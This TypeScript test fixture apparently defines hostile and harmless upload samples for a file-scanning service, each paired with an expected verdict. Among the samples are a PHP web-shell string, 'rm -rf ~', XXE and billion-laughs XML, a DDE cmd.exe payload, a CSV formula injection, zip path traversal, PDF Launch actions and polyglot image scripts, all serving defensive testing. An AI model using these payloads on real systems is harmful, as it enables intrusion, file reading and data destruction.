import { deflateSync } from 'node:zlib'
import { EICAR } from './clamd.ts'
import * as make from './file-builders.ts'

/** A file, and what has to become of it. `by` says who sends it this way in the world, or what it tries. */
export interface HostileFile {
  name: string
  type?: string
  bytes: Buffer
  verdict: `${'rejected' | 'quarantined'}: ${string}` | `accepted: ${string}`
}

const html = '<html><script>alert(1)</script></html>'
const exe = `MZ\x90\0\x03${'\0'.repeat(64)}PE\0\0`
const anyZip = make.zip([{ name: 'a.txt', data: 'a' }])
const zeros = (megabytes: number) => Buffer.alloc(megabytes * 1024 * 1024)
const latin = (text: string) => Buffer.from(text, 'latin1')
const and = (...parts: (Buffer | string)[]) =>
  Buffer.concat(parts.map((part) => (typeof part === 'string' ? latin(part) : part)))
const docxWith = (...parts: make.ZipEntry[]) => make.docx('Lease', parts)
const settingsLink = (type: string, target: string) =>
  docxWith(make.relationships('word/_rels/settings.xml.rels', { type, target, external: true }))
const laughs = Array.from({ length: 9 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join('')
const launch = '9 0 obj<</S/Launch/F(cmd.exe)>>endobj\n'
const oleObject = and(
  Buffer.from('d0cf11e0a1b11ae1', 'hex'),
  Buffer.alloc(504),
  Buffer.from('\x01Ole10Native', 'utf16le'),
  exe,
)

/** Programs, pages and archives under their own names and under others'. */
const programs: HostileFile[] = [
  { name: 'setup.exe', bytes: latin(exe), verdict: 'rejected: type_not_accepted' },
  { name: 'lease.pdf.exe', bytes: latin(exe), verdict: 'rejected: type_not_accepted' },
  { name: 'lease\u202efdp.exe', bytes: latin(exe), verdict: 'rejected: type_not_accepted' },
  { name: 'lease.pdf\0.exe', bytes: latin(exe), verdict: 'rejected: type_not_accepted' },
  {
    name: 'lease.pdf                                   .exe',
    bytes: latin(exe),
    verdict: 'rejected: type_not_accepted',
  },
  { name: 'lease.pdf::$DATA', bytes: latin(exe), verdict: 'rejected: type_not_accepted' },
  { name: 'lease.lnk', bytes: latin('L\0\0\0'), verdict: 'rejected: type_not_accepted' },
  { name: 'page.html', type: 'text/html', bytes: latin(html), verdict: 'rejected: type_not_accepted' },
  {
    name: 'seal.svg',
    type: 'image/svg+xml',
    bytes: latin('<svg onload="alert(1)"/>'),
    verdict: 'rejected: type_not_accepted',
  },
  { name: 'all.zip', type: 'application/zip', bytes: anyZip, verdict: 'rejected: type_not_accepted' },
  { name: 'lease.docm', bytes: make.docx('Lease'), verdict: 'rejected: type_not_accepted' },
  { name: 'lease.doc', bytes: Buffer.from('d0cf11e0a1b11ae1', 'hex'), verdict: 'rejected: type_not_accepted' },
  { name: 'lease', bytes: make.pdf(['a']), verdict: 'rejected: type_not_accepted' },
  { name: 'lease.pdf', bytes: latin(exe), verdict: 'rejected: type_mismatch' },
  { name: 'lease.pdf', bytes: latin(html), verdict: 'rejected: type_mismatch' },
  { name: 'lease.pdf', type: 'text/html', bytes: make.pdf(['a']), verdict: 'rejected: type_mismatch' },
  { name: 'lease.docx', bytes: latin(exe), verdict: 'rejected: type_mismatch' },
  { name: 'photo.png', bytes: latin('<svg onload="alert(1)"/>'), verdict: 'rejected: type_mismatch' },
  { name: 'photo.png', bytes: make.jpeg(), verdict: 'rejected: type_mismatch' },
  { name: 'notes.txt', bytes: latin(html), verdict: 'rejected: type_mismatch' },
  { name: 'notes.txt', bytes: latin(exe), verdict: 'rejected: type_mismatch' },
  { name: 'notes.md', bytes: latin('\x7fELF\x02\x01\x01\0\0\0'), verdict: 'rejected: type_mismatch' },
  { name: 'notes.txt', bytes: latin('#!/bin/sh\nrm -rf ~\n'), verdict: 'rejected: type_mismatch' },
  { name: 'notes.txt', bytes: latin('a\0b'), verdict: 'rejected: type_mismatch' },
  { name: 'lease.pdf', bytes: Buffer.alloc(0), verdict: 'rejected: empty' },
]

const viruses: HostileFile[] = [
  { name: 'eicar.com', bytes: latin(EICAR), verdict: 'rejected: type_not_accepted' },
  { name: 'eicar.txt', bytes: latin(EICAR), verdict: 'rejected: virus' },
  { name: 'eicar.pdf', bytes: latin(EICAR), verdict: 'rejected: type_mismatch' },
  {
    name: 'lease.pdf',
    bytes: make.pdf(['a'], { objects: [make.pdfStream(9, '', latin(EICAR))] }),
    verdict: 'rejected: virus',
  },
  { name: 'lease.docx', bytes: docxWith({ name: 'word/embeddings/a.bin', data: EICAR }), verdict: 'rejected: virus' },
  {
    name: 'lease.docx',
    bytes: docxWith({ name: 'word/embeddings/a.xlsx', data: make.xlsx([{ name: 'xl/a.bin', data: EICAR }]) }),
    verdict: 'rejected: virus',
  },
]

const containers: HostileFile[] = [
  {
    name: 'bomb.docx',
    bytes: docxWith({ name: 'word/media/a.png', data: zeros(64) }),
    verdict: 'rejected: unpacks_too_large',
  },
  {
    name: 'lying-bomb.docx',
    bytes: docxWith({ name: 'word/media/a.png', data: zeros(64), claims: { size: 1_000 } }),
    verdict: 'rejected: unpacks_too_large',
  },
  {
    name: 'nested-bomb.docx',
    bytes: docxWith({ name: 'word/embeddings/a.xlsx', data: make.xlsx([{ name: 'xl/a.xml', data: zeros(32) }]) }),
    verdict: 'rejected: unpacks_too_large',
  },
  {
    name: 'many.docx',
    bytes: docxWith(
      ...Array.from({ length: 10_001 }, (_, n) => ({ name: `word/${n}.xml`, data: '', method: 'store' as const })),
    ),
    verdict: 'rejected: unpacks_too_large',
  },
  { name: 'overlapping.docx', bytes: overlapping(), verdict: 'quarantined: suspicious_structure' },
  {
    name: 'deep.docx',
    bytes: docxWith({
      name: 'word/embeddings/a.xlsx',
      data: make.xlsx([
        { name: 'xl/embeddings/b.docx', data: docxWith({ name: 'word/c.docx', data: make.docx('c') }) },
      ]),
    }),
    verdict: 'quarantined: suspicious_structure',
  },
  {
    name: 'slip.docx',
    bytes: docxWith({ name: '../../../etc/cron.d/x', data: 'x' }),
    verdict: 'quarantined: suspicious_structure',
  },
  {
    name: 'slip.docx',
    bytes: docxWith({ name: '..\\..\\x.bat', data: 'x' }),
    verdict: 'quarantined: suspicious_structure',
  },
  {
    name: 'slip.docx',
    bytes: docxWith({ name: '/etc/passwd', data: 'x' }),
    verdict: 'quarantined: suspicious_structure',
  },
  {
    name: 'slip.docx',
    bytes: docxWith({ name: 'C:/windows/x.dll', data: 'x' }),
    verdict: 'quarantined: suspicious_structure',
  },
  {
    name: 'link.docx',
    bytes: docxWith({
      name: 'word/a.xml',
      data: '/etc/passwd',
      claims: { madeBy: (3 << 8) | 20, attributes: 0o120777 * 65_536 },
    }),
    verdict: 'quarantined: suspicious_structure',
  },
  {
    name: 'twice.docx',
    bytes: make.zip([...make.docxParts('a'), { name: 'word/document.xml', data: 'b' }]),
    verdict: 'quarantined: suspicious_structure',
  },
  {
    name: 'locked.docx',
    bytes: docxWith({ name: 'word/a.xml', data: 'x', claims: { flags: 1 } }),
    verdict: 'rejected: password_protected',
  },
  {
    name: 'locked.docx',
    bytes: and(Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(504), Buffer.from('EncryptedPackage', 'utf16le')),
    verdict: 'rejected: password_protected',
  },
  {
    name: 'odd.docx',
    bytes: docxWith({ name: 'word/a.xml', data: 'x', claims: { method: 99 } }),
    verdict: 'rejected: damaged',
  },
  { name: 'cut.docx', bytes: make.docx('Lease').subarray(0, 300), verdict: 'rejected: damaged' },
  { name: 'plain-zip.docx', bytes: anyZip, verdict: 'rejected: damaged' },
  { name: 'sheet.docx', bytes: make.xlsx(), verdict: 'rejected: type_mismatch' },
  { name: 'before.docx', bytes: and('PK\x03\x04 <html>', make.docx('Lease')), verdict: 'rejected: damaged' },
]

const office: HostileFile[] = [
  { name: 'macro.docx', bytes: docxWith({ name: 'word/vbaProject.bin', data: 'x' }), verdict: 'quarantined: macros' },
  {
    name: 'macro.docx',
    bytes: docxWith(make.contentTypes('word/document.xml', 'wordprocessingml.document.macroEnabled.main')),
    verdict: 'quarantined: macros',
  },
  {
    name: 'macro.xlsx',
    bytes: make.xlsx([{ name: 'xl/macrosheets/sheet1.xml', data: '<x/>' }]),
    verdict: 'quarantined: macros',
  },
  {
    name: 'xxe.docx',
    bytes: documentXml('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'),
    verdict: 'quarantined: suspicious_structure',
  },
  {
    name: 'laughs.docx',
    bytes: documentXml(`<!DOCTYPE a [<!ENTITY l0 "ha">${laughs}]><a>&l9;</a>`),
    verdict: 'quarantined: suspicious_structure',
  },
  {
    name: 'xxe-utf16.docx',
    bytes: docxWith({
      name: 'word/document.xml',
      data: Buffer.from('\ufeff<!DOCTYPE a SYSTEM "http://example.org/x">', 'utf16le'),
    }),
    verdict: 'quarantined: suspicious_structure',
  },
  {
    name: 'xxe-rels.docx',
    bytes: docxWith({ name: 'word/_rels/document.xml.rels', data: '<!DOCTYPE a><Relationships/>' }),
    verdict: 'quarantined: suspicious_structure',
  },
  {
    name: 'template.docx',
    bytes: settingsLink('attachedTemplate', 'https://example.org/x.dotm'),
    verdict: 'quarantined: external_content',
  },
  {
    name: 'template.docx',
    bytes: settingsLink('attachedTemplate', '\\\\example.org\\share\\x.dotm'),
    verdict: 'quarantined: external_content',
  },
  {
    name: 'template.docx',
    bytes: settingsLink('attachedTemplate', '&#104;ttps://example.org/x.dotm'),
    verdict: 'quarantined: external_content',
  },
  {
    name: 'template.docx',
    bytes: settingsLink('attachedTemplate', 'file://example.org/x.dotm'),
    verdict: 'quarantined: external_content',
  },
  {
    name: 'follina.docx',
    bytes: settingsLink('oleObject', 'mhtml:https://example.org/x.html!x-usc:https://example.org/x.html'),
    verdict: 'quarantined: external_content',
  },
  {
    name: 'dde.docx',
    bytes: documentXml(
      '<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>',
    ),
    verdict: 'quarantined: active_content',
  },
  {
    name: 'activex.docx',
    bytes: docxWith({ name: 'word/activeX/activeX1.xml', data: '<x/>' }),
    verdict: 'quarantined: active_content',
  },
  {
    name: 'package.docx',
    bytes: docxWith({ name: 'word/embeddings/oleObject1.bin', data: oleObject }),
    verdict: 'quarantined: active_content',
  },
  {
    name: 'program.docx',
    bytes: docxWith({ name: 'word/embeddings/tool.exe', data: exe }),
    verdict: 'quarantined: active_content',
  },
  {
    name: 'program.docx',
    bytes: docxWith({ name: 'word/embeddings/tool.bin', data: exe }),
    verdict: 'quarantined: active_content',
  },
]

const images: HostileFile[] = [
  {
    name: 'script.gif',
    bytes: and('GIF89a/*\x01\0\0\0\0', make.gif().subarray(13, -1), '*/=1;alert(1)//;'),
    verdict: 'quarantined: two_types_at_once',
  },
  {
    name: 'comment.gif',
    bytes: make.gif(1, 1, { comment: '<script>alert(1)</script>' }),
    verdict: 'quarantined: two_types_at_once',
  },
  { name: 'gifar.gif', bytes: and(make.gif(), anyZip), verdict: 'quarantined: two_types_at_once' },
  { name: 'script.jpg', bytes: jpegScript(), verdict: 'quarantined: two_types_at_once' },
  {
    name: 'shell.jpg',
    bytes: make.jpeg(8, 8, [make.jpegSegment(0xfe, latin("<?php system($_GET['c']);"))]),
    verdict: 'quarantined: two_types_at_once',
  },
  { name: 'archive.jpg', bytes: and(make.jpeg(), anyZip), verdict: 'quarantined: two_types_at_once' },
  { name: 'program.jpg', bytes: and(make.jpeg(), exe), verdict: 'quarantined: two_types_at_once' },
  { name: 'page.png', bytes: and(make.png(), html), verdict: 'quarantined: two_types_at_once' },
  {
    name: 'page.png',
    bytes: make.png(8, 8, { text: '<script src=//example.org/x></script>' }),
    verdict: 'quarantined: two_types_at_once',
  },
  { name: 'program.png', bytes: and(make.png(), '\x7fELF\x02'), verdict: 'quarantined: two_types_at_once' },
  { name: 'document.png', bytes: and(make.png(), make.pdf(['a'])), verdict: 'quarantined: two_types_at_once' },
  { name: 'flood.png', bytes: make.png(60_000, 60_000, { claimed: true }), verdict: 'rejected: image_too_large' },
  {
    name: 'flood.png',
    bytes: make.png(0x7fffffff, 0x7fffffff, { claimed: true }),
    verdict: 'rejected: image_too_large',
  },
  { name: 'flood.jpg', bytes: make.jpeg(65_535, 65_535), verdict: 'rejected: image_too_large' },
  { name: 'flood.gif', bytes: make.gif(65_535, 65_535), verdict: 'rejected: image_too_large' },
  { name: 'film.gif', bytes: make.gif(7_000, 7_000, { frames: 2_000 }), verdict: 'rejected: image_too_large' },
  { name: 'flood.webp', bytes: make.webp(16_384, 16_384), verdict: 'rejected: image_too_large' },
  { name: 'flood.heic', bytes: make.heic(100_000, 100_000), verdict: 'rejected: image_too_large' },
  { name: 'cut.png', bytes: make.png(64, 64).subarray(0, -16), verdict: 'rejected: damaged' },
  { name: 'cut.jpg', bytes: make.jpeg().subarray(0, -2), verdict: 'rejected: damaged' },
  { name: 'cut.gif', bytes: make.gif().subarray(0, -1), verdict: 'rejected: damaged' },
  { name: 'cut.webp', bytes: make.webp().subarray(0, -4), verdict: 'rejected: damaged' },
]

const pdfs: HostileFile[] = [
  { name: 'page.pdf', bytes: and('%PDF-1.7\n', html, make.pdf(['a'])), verdict: 'quarantined: two_types_at_once' },
  { name: 'page.pdf', bytes: make.pdf(['a'], { tail: html }), verdict: 'quarantined: two_types_at_once' },
  { name: 'archive.pdf', bytes: and(make.pdf(['a']), anyZip), verdict: 'quarantined: two_types_at_once' },
  { name: 'program.pdf', bytes: make.pdf(['a'], { tail: exe }), verdict: 'quarantined: two_types_at_once' },
  { name: 'late.pdf', bytes: and('GIF89a\n', make.pdf(['a'])), verdict: 'rejected: type_mismatch' },
  {
    name: 'launch.pdf',
    bytes: make.pdf(['a'], { catalog: '/OpenAction 9 0 R', objects: [launch] }),
    verdict: 'quarantined: active_content',
  },
  {
    name: 'launch.pdf',
    bytes: make.pdf(['a'], { objects: [launch.replace('Launch', 'L#61un#63h')] }),
    verdict: 'quarantined: active_content',
  },
  {
    name: 'launch.pdf',
    bytes: objectStream('/Filter/FlateDecode', deflateSync(latin(`9 0 ${launch}`))),
    verdict: 'quarantined: active_content',
  },
  {
    name: 'launch.pdf',
    bytes: objectStream('/Filter[/ASCIIHexDecode/FlateDecode]', latin('00>')),
    verdict: 'quarantined: suspicious_structure',
  },
  {
    name: 'bomb.pdf',
    bytes: objectStream('/Filter/FlateDecode', deflateSync(zeros(80))),
    verdict: 'rejected: unpacks_too_large',
  },
  {
    name: 'dropper.pdf',
    bytes: make.pdf(['a'], {
      objects: [
        '9 0 obj<</S/JavaScript/JS(this.exportDataObject())>>endobj\n',
        '10 0 obj<</Type/EmbeddedFile>>endobj\n',
      ],
    }),
    verdict: 'quarantined: active_content',
  },
  {
    name: 'flash.pdf',
    bytes: make.pdf(['a'], { objects: ['9 0 obj<</Subtype/RichMedia>>endobj\n'] }),
    verdict: 'quarantined: active_content',
  },
  { name: 'cut.pdf', bytes: make.pdf(['a']).subarray(0, -30), verdict: 'rejected: damaged' },
  {
    name: 'form.pdf',
    bytes: make.pdf(['a'], { objects: ['9 0 obj<</S/JavaScript/JS(1+1)>>endobj\n'] }),
    verdict: 'accepted: scripts',
  },
  {
    name: 'invoice.pdf',
    bytes: make.pdf(['a'], { objects: ['9 0 obj<</Type/EmbeddedFile>>endobj\n'] }),
    verdict: 'accepted: embedded_files',
  },
  {
    name: 'locked.pdf',
    bytes: make.pdf(['a'], { catalog: '/Encrypt 9 0 R' }),
    verdict: 'accepted: password_protected',
  },
]

const others: HostileFile[] = [
  { name: 'table.csv', bytes: latin("name,sum\nx,=cmd|'/c calc'!A0\n"), verdict: 'quarantined: active_content' },
  { name: 'table.csv', bytes: latin('name,sum\nx,=1+1\n'), verdict: 'accepted: formulas' },
  { name: 'quotes.csv', bytes: Buffer.alloc(5_000_000, '"'), verdict: 'accepted: ' },
  {
    name: 'object.rtf',
    bytes: latin('{\\rtf1{\\object\\objemb{\\*\\objdata 0105}}}'),
    verdict: 'quarantined: active_content',
  },
  {
    name: 'object.rtf',
    bytes: latin('{\\rtf1{\\object\\objemb{\\*\\obj\r\nda{}ta 0105}}}'),
    verdict: 'quarantined: active_content',
  },
  {
    name: 'template.rtf',
    bytes: latin('{\\rtf1{\\*\\template https://example.org/x}}'),
    verdict: 'quarantined: active_content',
  },
  { name: 'cut.rtf', bytes: latin('{\\rtf1 Lease'), verdict: 'rejected: damaged' },
  { name: 'mail.eml', bytes: mail('invoice.pdf.exe'), verdict: 'quarantined: active_content' },
  { name: 'mail.eml', bytes: mail('invoice.pdf'), verdict: 'accepted: embedded_files' },
  { name: 'mail.eml', bytes: latin(html), verdict: 'rejected: type_mismatch' },
  { name: 'voice.wav', bytes: make.wav(latin(html.padEnd(64))), verdict: 'quarantined: two_types_at_once' },
  { name: 'cut.wav', bytes: make.wav(Buffer.alloc(64), 1_000), verdict: 'rejected: damaged' },
  { name: 'voice.mp3', bytes: make.wav(), verdict: 'rejected: type_mismatch' },
  { name: 'film.mp4', bytes: and(make.mp4(), anyZip), verdict: 'quarantined: two_types_at_once' },
  { name: 'cut.mp4', bytes: make.mp4().subarray(0, -20), verdict: 'rejected: damaged' },
  { name: 'no-index.mp4', bytes: make.mp4('isom', [make.box('mdat', Buffer.alloc(64))]), verdict: 'rejected: damaged' },
]

export const hostileFiles: readonly HostileFile[] = [
  ...programs,
  ...viruses,
  ...containers,
  ...office,
  ...images,
  ...pdfs,
  ...others,
]

/** One of each kind as people send them. */
export const harmlessFiles: readonly HostileFile[] = [
  { name: 'lease.pdf', type: 'application/pdf', bytes: make.pdf(['Lease', 'Signatures']), verdict: 'accepted: ' },
  { name: '../../lease.pdf', bytes: make.pdf(['Lease']), verdict: 'accepted: ' },
  {
    name: 'objects.pdf',
    bytes: objectStream('/Filter/FlateDecode', deflateSync(latin('9 0 <</Type/Font>>'))),
    verdict: 'accepted: ',
  },
  {
    name: 'lease.docx',
    bytes: settingsLink('attachedTemplate', 'file:///C:/Users/a/Normal.dotm'),
    verdict: 'accepted: ',
  },
  { name: 'dde.docx', bytes: make.docx('The DDE protocol was agreed.'), verdict: 'accepted: ' },
  {
    name: 'sheet.docx',
    bytes: docxWith({ name: 'word/embeddings/a.xlsx', data: make.xlsx() }),
    verdict: 'accepted: embedded_files',
  },
  { name: 'costs.xlsx', bytes: make.xlsx(), verdict: 'accepted: ' },
  { name: 'talk.pptx', bytes: make.pptx(), verdict: 'accepted: ' },
  { name: 'photo.png', type: 'image/png', bytes: make.png(64, 64), verdict: 'accepted: ' },
  { name: 'photo.JPG', type: 'image/jpeg', bytes: make.jpeg(), verdict: 'accepted: ' },
  { name: 'photo.gif', bytes: make.gif(), verdict: 'accepted: ' },
  { name: 'photo.webp', bytes: make.webp(), verdict: 'accepted: ' },
  { name: 'photo.heic', type: 'image/heic', bytes: make.heic(), verdict: 'accepted: ' },
  { name: 'notes.txt', type: 'text/plain', bytes: Buffer.from('Müller ./. Meier\r\n'), verdict: 'accepted: ' },
  { name: 'notes.txt', bytes: latin('M\xfcller'), verdict: 'accepted: ' },
  { name: 'notes.md', bytes: latin('# Notes\n<b>bold</b>\n'), verdict: 'accepted: ' },
  { name: 'table.csv', type: 'application/vnd.ms-excel', bytes: latin('a;b\n1;-2\n'), verdict: 'accepted: ' },
  { name: 'letter.rtf', bytes: latin('{\\rtf1 Lease}\r\n'), verdict: 'accepted: ' },
  { name: 'voice.wav', type: 'audio/wav', bytes: make.wav(), verdict: 'accepted: ' },
  { name: 'voice.mp3', type: 'audio/mpeg', bytes: make.mp3(), verdict: 'accepted: ' },
  { name: 'voice.ogg', type: 'audio/ogg', bytes: make.ogg(), verdict: 'accepted: ' },
  { name: 'voice.webm', type: 'audio/webm;codecs=opus', bytes: make.webm(), verdict: 'accepted: ' },
  { name: 'voice.m4a', type: 'audio/mp4', bytes: make.mp4('M4A '), verdict: 'accepted: ' },
  { name: 'film.mp4', type: 'video/mp4', bytes: make.mp4(), verdict: 'accepted: ' },
  { name: 'film.mov', type: 'video/quicktime', bytes: make.mp4('qt  '), verdict: 'accepted: ' },
  { name: 'film.webm', type: 'video/webm', bytes: make.webm(), verdict: 'accepted: ' },
]

function documentXml(data: string): Buffer {
  return docxWith({ name: 'word/document.xml', data })
}

/** Two entries of the directory that point at one part: the way to a bomb without nesting. */
function overlapping(): Buffer {
  const bytes = make.zip([
    ...make.docxParts('a'),
    { name: 'word/a.xml', data: 'x'.repeat(500) },
    { name: 'word/b.xml', data: 'x'.repeat(500) },
  ])
  const second = bytes.lastIndexOf('PK\x01\x02', undefined, 'latin1')
  const first = bytes.lastIndexOf('PK\x01\x02', second - 1, 'latin1')
  bytes.copyWithin(second + 42, first + 42, first + 46)
  return bytes
}

/** The length of the first segment reads as the start of a comment. */
function jpegScript(): Buffer {
  const segment = Buffer.alloc(0x2f2a - 2)
  segment.write('*/=1;alert(1)/*', 0, 'latin1')
  const rest = make.jpeg()
  return Buffer.concat([rest.subarray(0, 2), make.jpegSegment(0xe0, segment), rest.subarray(20)])
}

function objectStream(filter: string, data: Buffer): Buffer {
  return make.pdf(['a'], { objects: [make.pdfStream(9, `/Type/ObjStm/N 1/First 4${filter}`, data)] })
}

function mail(attachment: string): Buffer {
  return latin(
    `From: a@example.org\r\nTo: b@example.org\r\nSubject: Invoice\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\nContent-Type: application/octet-stream; name="${attachment}"\r\nContent-Disposition: attachment; filename="${attachment}"\r\n\r\nAAAA\r\n--x--\r\n`,
  )
}
